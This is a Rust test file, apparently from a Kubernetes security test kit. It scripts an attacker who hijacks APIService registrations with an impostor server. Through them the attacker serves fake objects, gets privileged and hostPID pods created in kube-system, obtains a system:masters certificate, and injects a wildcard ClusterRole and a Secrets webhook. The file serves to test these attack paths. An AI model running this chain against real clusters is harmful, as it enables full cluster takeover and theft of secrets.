//! What the attacker does with API groups of the API server that he serves himself: its parts read there what he shows.
//! They ask when they start, and later when a watch ends.

use std::thread;
use std::time::{Duration, Instant};

use bailiwick_testkit::impostor::Impostor;
use bailiwick_testkit::servers::{Builder, Cluster};
use serde_json::{Value, json};

use crate::acts::{APIS, CORE, DRY};
use crate::certificates;
use crate::levers::{fails_there, webhook_of_secrets};
use crate::stage::{Stage, eventually};

/// The edges whose steps are taken.
pub(crate) const TAKEN: &[&str] = &[
    "api-service-admission",
    "api-service-certificates",
    "api-service-nodes",
    "api-service-operators",
    "api-service-rbac",
    "api-service-reviews",
    "api-service-workloads",
];

const SERVICES: &str = "/apis/apiregistration.k8s.io/v1/apiservices";
/// Says that the API server puts the APIService right when it starts.
const MANAGED: &str = "kube-aggregator.kubernetes.io/automanaged";

/// The longest watch of the API server's own, twice five minutes, and some time to go on from it.
const WATCH: Duration = Duration::from_secs(660);

/// A cluster and the attacker's server.
pub(crate) struct Play {
    pub(crate) stage: Stage,
    pub(crate) impostor: Impostor,
}

impl Play {
    fn new() -> Self {
        Self::on(&Cluster::builder().user("anna", &["dev"]))
    }

    pub(crate) fn on(builder: &Builder) -> Self {
        let stage = Stage::new(builder);
        let service = json!({
            "metadata": {"name": "eve"},
            "spec": {"type": "ExternalName", "externalName": "127.0.0.1"},
        });
        // The right to make Services in one namespace is enough.
        let rbac = stage.put_rbac(
            "Role shop/own
               create on services of ''
             RoleBinding shop/own gives Role/own to user:eve",
        );
        let reply = stage.post(&format!("{CORE}/shop/services"), &service);
        assert_eq!(reply.status, 201);
        stage.remove_rbac(&rbac);
        Self {
            stage,
            impostor: Impostor::start().unwrap(),
        }
    }

    /// What makes an APIService the attacker's, and keeps the API server from putting it right.
    fn own(&self) -> Value {
        json!({
            "metadata": {"labels": {MANAGED: null}},
            "spec": {
                "service": {"namespace": "shop", "name": "eve", "port": self.impostor.port},
                "insecureSkipTLSVerify": true,
            },
        })
    }

    /// Has the attacker take an APIService by the right of an edge's example, and fail by what is safe.
    pub(crate) fn take(&self, edge: &str, name: &str) {
        let path = format!("{SERVICES}/{name}");
        let scene = self.stage.put(edge, true);
        assert_eq!(self.stage.patch(&path, &self.own()).status, 403, "{edge}");
        self.stage.remove(&scene);
        let scene = self.stage.put(edge, false);
        // That of a custom resource is there a moment after its definition.
        let is_taken = || self.stage.patch(&path, &self.own()).status == 200;
        assert!(eventually(is_taken), "{edge}");
        self.stage.remove_rbac(&scene.rbac);
        self.wait_for(name);
    }

    /// The same of another APIService.
    pub(crate) fn take_as_well(&self, name: &str) {
        let path = format!("{SERVICES}/{name}");
        assert_eq!(self.stage.patch(&path, &self.own()).status, 403, "{name}");
        let rbac = self.stage.put_rbac(&format!(
            "ClusterRole more
               patch on apiservices of apiregistration.k8s.io named {name}
             ClusterRoleBinding more gives ClusterRole/more to user:eve"
        ));
        assert_eq!(self.stage.patch(&path, &self.own()).status, 200, "{name}");
        self.stage.remove_rbac(&rbac);
        self.wait_for(name);
    }

    /// Waits until requests go to the attacker.
    fn wait_for(&self, name: &str) {
        let (version, group) = name.split_once('.').unwrap();
        let path = match group {
            "" => format!("/api/{version}"),
            group => format!("/apis/{group}/{version}"),
        };
        let is_his = || {
            let reply = self.stage.cluster.admin().get(&path).unwrap();
            reply.status == 200 && reply.json().unwrap()["resources"] == json!([])
        };
        assert!(eventually(is_his), "{name} is not the attacker's");
    }
}

#[test]
fn whoever_asks_gets_what_the_attacker_serves() {
    let mut play = Play::new();
    play.operators_read_his_objects();
    play.kubelets_read_his_pods();
    play.take("api-service-workloads", "v1.batch");
    play.take_as_well("v1.apps");
    play.take("api-service-certificates", "v1.certificates.k8s.io");
    play.hears_who_asks_and_not_by_what_token();
    play.starts_pods_and_signs_for_anybody();
    play.keeps_what_was_deleted();
    play.keeps_what_is_not_managed();
}

/// The API server asks itself again when the watches end with which it started, after five to ten minutes.
#[test]
#[ignore = "takes ten minutes"]
fn the_api_server_asks_itself_by_way_of_the_attacker() {
    let play = Play::new();
    play.take("api-service-admission", "v1.admissionregistration.k8s.io");
    play.take("api-service-rbac", "v1.rbac.authorization.k8s.io");
    play.has_roles_and_webhooks_of_his_own();
}

impl Play {
    fn hears_who_asks_and_not_by_what_token(&self) {
        let path = "/apis/batch/v1/jobs";
        self.impostor.show(path, "Job", Vec::new());
        let reply = self.stage.cluster.user("anna").unwrap().get(path);
        assert_eq!(
            reply.unwrap().status,
            403,
            "the API server's authorizers are asked first"
        );
        let rights = "ClusterRole jobs
                        list on jobs of batch
                      ClusterRoleBinding jobs gives ClusterRole/jobs to user:anna";
        self.stage.put_rbac(rights);
        let reply = self.stage.cluster.user("anna").unwrap().get(path);
        assert_eq!(reply.unwrap().status, 200);
        let asked = self.impostor.asked();
        let by_anna = |name| {
            asked
                .iter()
                .find(|asked| asked.header("x-remote-user") == Some(name))
        };
        let asked = by_anna("anna").unwrap();
        assert_eq!((&*asked.method, &*asked.path), ("GET", path));
        assert!(
            asked
                .headers
                .contains(&("x-remote-group".to_owned(), "dev".to_owned()))
        );
        assert_eq!(asked.header("authorization"), None);
    }

    /// The controller-manager is started anew, and makes pods in `kube-system` and a certificate for `system:masters`.
    fn starts_pods_and_signs_for_anybody(&mut self) {
        let (request, key) = certificates::approved_for_masters();
        for (path, kind, objects) in [
            ("/apis/batch/v1/jobs", "Job", vec![job()]),
            ("/apis/batch/v1/cronjobs", "CronJob", vec![]),
            (
                "/apis/apps/v1/replicasets",
                "ReplicaSet",
                vec![replica_set()],
            ),
            ("/apis/apps/v1/deployments", "Deployment", vec![]),
            ("/apis/apps/v1/daemonsets", "DaemonSet", vec![]),
            ("/apis/apps/v1/statefulsets", "StatefulSet", vec![]),
            (
                "/apis/apps/v1/controllerrevisions",
                "ControllerRevision",
                vec![],
            ),
            (
                certificates::PATH,
                "CertificateSigningRequest",
                vec![request],
            ),
        ] {
            self.impostor.show(path, kind, objects);
        }
        self.stage.cluster.restart_controller_manager().unwrap();
        for label in ["made=by-job", "made=by-replica-set"] {
            let path = format!("{CORE}/kube-system/pods?labelSelector={label}");
            let admin = self.stage.cluster.admin();
            let pods = || {
                admin.get(&path).unwrap().json().unwrap()["items"]
                    .as_array()
                    .unwrap()
                    .len()
            };
            assert!(eventually(|| pods() > 0), "{label}");
        }
        let mut certificate = None;
        assert!(eventually(|| {
            certificate = self
                .impostor
                .asked()
                .iter()
                .find_map(|asked| certificates::issued_in(&asked.body));
            certificate.is_some()
        }));
        let mallory = self
            .stage
            .cluster
            .certificate_holder("mallory", &certificate.unwrap(), &key);
        let whoami = json!({"apiVersion": "authentication.k8s.io/v1", "kind": "SelfSubjectReview"});
        let reply = mallory.unwrap().post(
            &format!("{APIS}/authentication.k8s.io/v1/selfsubjectreviews"),
            &whoami,
        );
        let info = reply.unwrap().json().unwrap()["status"]["userInfo"].clone();
        assert_eq!(
            info["groups"],
            json!(["system:masters", "system:authenticated"]),
            "{info}"
        );
    }

    fn operators_read_his_objects(&self) {
        self.take("api-service-operators", "v1.kustomize.toolkit.fluxcd.io");
        let path = "/apis/kustomize.toolkit.fluxcd.io/v1/kustomizations";
        self.impostor.show(
            path,
            "Kustomization",
            vec![json!({"metadata": {"name": "eve", "namespace": "argo"}})],
        );
        // The objects of the example are gone, but for what is asked here.
        let rights = "ClusterRole operator
                        * on * of kustomize.toolkit.fluxcd.io
                      ClusterRoleBinding operator gives ClusterRole/operator to sa:argo/default";
        self.stage.put_rbac(rights);
        let operator = self
            .stage
            .cluster
            .service_account("argo", "default")
            .unwrap();
        let list = operator.get(path).unwrap().json().unwrap();
        assert_eq!(list["items"][0]["metadata"]["name"], "eve", "{list}");
    }

    fn kubelets_read_his_pods(&self) {
        let node = json!({"metadata": {"name": "m1"}});
        let admin = self.stage.cluster.admin();
        assert_eq!(admin.post("/api/v1/nodes", &node).unwrap().status, 201);
        self.take("api-service-nodes", "v1.");
        self.impostor.show("/api/v1/pods", "Pod", vec![json!({
            "metadata": {"name": "eve", "namespace": "kube-system", "uid": "eve"},
            "spec": {"nodeName": "m1", "containers": [{"name": "a", "image": "a", "securityContext": {"privileged": true}}]},
        })]);
        let kubelet = self
            .stage
            .cluster
            .certificate_user("system:node:m1", Some("system:nodes"))
            .unwrap();
        let list = kubelet
            .get("/api/v1/pods?fieldSelector=spec.nodeName%3Dm1")
            .unwrap()
            .json()
            .unwrap();
        assert_eq!(list["items"][0]["metadata"]["name"], "eve", "{list}");
        self.give_back("v1.");
        assert!(eventually(|| admin
            .get("/api/v1/nodes/m1")
            .unwrap()
            .json()
            .unwrap()["kind"]
            == "Node"));
    }

    pub(crate) fn give_back(&self, name: &str) {
        let own = json!({"spec": {"service": null, "insecureSkipTLSVerify": null}}).to_string();
        let headers = [("content-type", "application/merge-patch+json")];
        let path = format!("{SERVICES}/{name}");
        let reply = self
            .stage
            .cluster
            .admin()
            .request("PATCH", &path, &headers, Some(&own));
        assert_eq!(reply.unwrap().status, 200, "{name}");
    }

    /// An APIService that is deleted is not made again while the API server runs.
    fn keeps_what_was_deleted(&self) {
        let rights = |verbs: &str| {
            format!(
                "ClusterRole renew
                   {verbs} on apiservices of apiregistration.k8s.io
                 ClusterRoleBinding renew gives ClusterRole/renew to user:eve"
            )
        };
        let mut own = self.own();
        own["metadata"] = json!({"name": "v1.scheduling.k8s.io"});
        for (field, value) in [
            ("group", json!("scheduling.k8s.io")),
            ("version", json!("v1")),
            ("groupPriorityMinimum", json!(16_600)),
            ("versionPriority", json!(15)),
        ] {
            own["spec"][field] = value;
        }
        let path = format!("{SERVICES}/v1.scheduling.k8s.io");
        let rbac = self.stage.put_rbac(&rights("create"));
        assert_eq!(self.stage.post(SERVICES, &own).status, 409);
        self.stage.remove_rbac(&rbac);
        let rbac = self.stage.put_rbac(&rights("create,delete"));
        assert_eq!(
            self.stage
                .eve
                .request("DELETE", &path, &[], None)
                .unwrap()
                .status,
            200
        );
        // The API server answers itself, as before.
        let classes = "/apis/scheduling.k8s.io/v1/priorityclasses";
        let admin = self.stage.cluster.admin();
        let answers = || admin.get(classes).unwrap().status == 200;
        assert!(eventually(answers));
        self.stage.remove_rbac(&rbac);
        let rbac = self.stage.put_rbac(&rights("create"));
        assert_eq!(self.stage.post(SERVICES, &own).status, 201);
        self.stage.remove_rbac(&rbac);
        self.wait_for("v1.scheduling.k8s.io");
    }

    /// The API server learns of a role that allows everything, and asks a webhook about Secrets.
    fn has_roles_and_webhooks_of_his_own(&self) {
        let rbac = "rbac.authorization.k8s.io";
        let everything = json!({
            "metadata": {"name": "all"},
            "rules": [{"apiGroups": ["*"], "resources": ["*"], "verbs": ["*"]}],
        });
        let eve = json!({
            "metadata": {"name": "eve"},
            "roleRef": {"apiGroup": rbac, "kind": "ClusterRole", "name": "all"},
            "subjects": [{"apiGroup": rbac, "kind": "User", "name": "eve"}],
        });
        let mut webhook = webhook_of_secrets();
        webhook["reinvocationPolicy"] = json!("Never");
        let webhooks = json!({"metadata": {"name": "eve"}, "webhooks": [webhook]});
        let admission = "/apis/admissionregistration.k8s.io/v1";
        let rbac = format!("/apis/{rbac}/v1");
        for (path, kind, objects) in [
            (
                format!("{rbac}/clusterroles"),
                "ClusterRole",
                vec![everything],
            ),
            (
                format!("{rbac}/clusterrolebindings"),
                "ClusterRoleBinding",
                vec![eve],
            ),
            (format!("{rbac}/roles"), "Role", vec![]),
            (format!("{rbac}/rolebindings"), "RoleBinding", vec![]),
            (
                format!("{admission}/mutatingwebhookconfigurations"),
                "MutatingWebhookConfiguration",
                vec![webhooks],
            ),
            (
                format!("{admission}/validatingwebhookconfigurations"),
                "ValidatingWebhookConfiguration",
                vec![],
            ),
            (
                format!("{admission}/validatingadmissionpolicies"),
                "ValidatingAdmissionPolicy",
                vec![],
            ),
            (
                format!("{admission}/validatingadmissionpolicybindings"),
                "ValidatingAdmissionPolicyBinding",
                vec![],
            ),
            (
                format!("{admission}/mutatingadmissionpolicies"),
                "MutatingAdmissionPolicy",
                vec![],
            ),
            (
                format!("{admission}/mutatingadmissionpolicybindings"),
                "MutatingAdmissionPolicyBinding",
                vec![],
            ),
        ] {
            self.impostor.show(&path, kind, objects);
        }
        assert_eq!(self.stage.get("/api/v1/secrets").status, 403);
        let admin = self.stage.cluster.admin();
        let secret = json!({"metadata": {"name": "seen", "labels": {"seen": "by-eve"}}});
        let secrets = format!("{CORE}/shop/secrets?{DRY}");
        let start = Instant::now();
        let (mut by_roles, mut by_webhook) = (false, false);
        while !(by_roles && by_webhook) {
            assert!(
                start.elapsed() < WATCH,
                "roles {by_roles}, webhook {by_webhook}"
            );
            by_roles |= self.stage.get("/api/v1/secrets").status == 200;
            by_webhook |= fails_there(&admin.post(&secrets, &secret).unwrap());
            thread::sleep(Duration::from_secs(1));
        }
    }

    /// The API server, started anew, puts right what says that it is managed, and nothing else.
    fn keeps_what_is_not_managed(&mut self) {
        let managed = "v1.node.k8s.io";
        let mut own = self.own();
        own["metadata"] = json!({});
        let headers = [("content-type", "application/merge-patch+json")];
        let admin = self.stage.cluster.admin();
        let path = format!("{SERVICES}/{managed}");
        let reply = admin.request("PATCH", &path, &headers, Some(&own.to_string()));
        assert_eq!(reply.unwrap().status, 200);
        self.wait_for(managed);
        self.stage.cluster.restart_api_server().unwrap();
        let admin = self.stage.cluster.admin();
        let is_his = |name: &str| {
            let service = admin
                .get(&format!("{SERVICES}/{name}"))
                .unwrap()
                .json()
                .unwrap();
            service["spec"]["service"]["name"] == "eve"
        };
        assert!(eventually(|| !is_his(managed)));
        for name in ["v1.batch", "v1.certificates.k8s.io", "v1.scheduling.k8s.io"] {
            assert!(is_his(name), "{name}");
        }
    }
}

fn template(made: &str) -> Value {
    json!({
        "metadata": {"labels": {"made": made}},
        "spec": {
            "restartPolicy": if made == "by-job" { "Never" } else { "Always" },
            "hostPID": true,
            "containers": [{"name": "a", "image": "a"}],
        },
    })
}

fn job() -> Value {
    json!({
        "metadata": {"namespace": "kube-system", "name": "eve", "uid": "eve-job"},
        "spec": {
            "parallelism": 1,
            "completions": 1,
            "backoffLimit": 6,
            "completionMode": "NonIndexed",
            "suspend": false,
            "selector": {"matchLabels": {"made": "by-job"}},
            "template": template("by-job"),
        },
    })
}

fn replica_set() -> Value {
    json!({
        "metadata": {"namespace": "kube-system", "name": "eve", "uid": "eve-replica-set"},
        "spec": {
            "replicas": 1,
            "selector": {"matchLabels": {"made": "by-replica-set"}},
            "template": template("by-replica-set"),
        },
    })
}
